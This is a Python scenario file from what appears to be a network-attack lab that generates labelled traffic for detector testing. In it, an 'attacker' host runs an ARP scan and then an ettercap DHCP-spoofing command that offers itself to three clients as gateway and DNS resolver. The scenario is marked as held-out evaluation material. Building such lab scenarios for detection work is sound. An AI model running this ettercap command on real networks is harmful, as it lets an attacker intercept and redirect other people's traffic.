"""ettercap answers DHCP clients before the server does."""

from lab import servers
from lab.clients import UDHCPC_SCRIPT, _script
from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, server = net.inside("attacker"), net.inside("dhcp")
    clients = [net.inside(f"laptop{number}", address=False) for number in range(1, 5)]
    servers.leases(
        server, "10.20.0.200", "10.20.0.240", "10.20.0.1", "dhcp-option=option:dns-server,10.20.0.53"
    )
    attacker.sysctl(net__ipv4__conf__all__send_redirects="0", net__ipv4__conf__eth0__send_redirects="0")
    net.everyday()

    def lease(number: int) -> None:
        script = _script(clients[number], "udhcpc.sh", UDHCPC_SCRIPT)
        clients[number].run(*("udhcpc", "-f", "-n", "-q", "-i", "eth0", "-s", str(script)), check=False)

    lease(0)
    net.quiet(1)
    everybody = [net.inside(name) for name in ("web", "names", "pc1", "pc2", "dhcp")]
    # It begins with a list of who is there.
    scan = net.attack(
        "arp-scan",
        by=attacker,
        attackers=[attacker.mac],
        victims=everybody,
        frames=f"arp[6:2] == 1 and arp src host {attacker.ip}",
        responses=f"arp[6:2] == 2 and ether dst {attacker.mac}",
    )
    with (
        scan,
        net.attack(
            "rogue-dhcp",
            by=attacker,
            attackers=[attacker.mac],
            victims=[client.mac for client in clients[1:]],
            frames="udp src port 67",
            responses="udp dst port 67 or udp src port 67",
        ),
    ):
        words = "ettercap -T -q -i eth0 -M dhcp:10.20.0.230-240/255.255.255.0/10.20.0.66"
        process = net.start(attacker, "sh", "-c", f"sleep 25 | {words}")
        net.quiet(4)
        for number in range(1, 4):
            lease(number)
            net.quiet(1)
        net.end(process)
    net.quiet(2)


SCENARIO = Scenario(
    name="rogue-dhcp-held-ettercap",
    about="ettercap asks who is there, then offers three DHCP clients itself as gateway and resolver.",
    detectors=("rogue-dhcp", "arp-scan"),
    tools={"ettercap": "ettercap-text-only", "udhcpc": "busybox"},
    held_out=True,
    snap_octets=600,
    run=run,
)
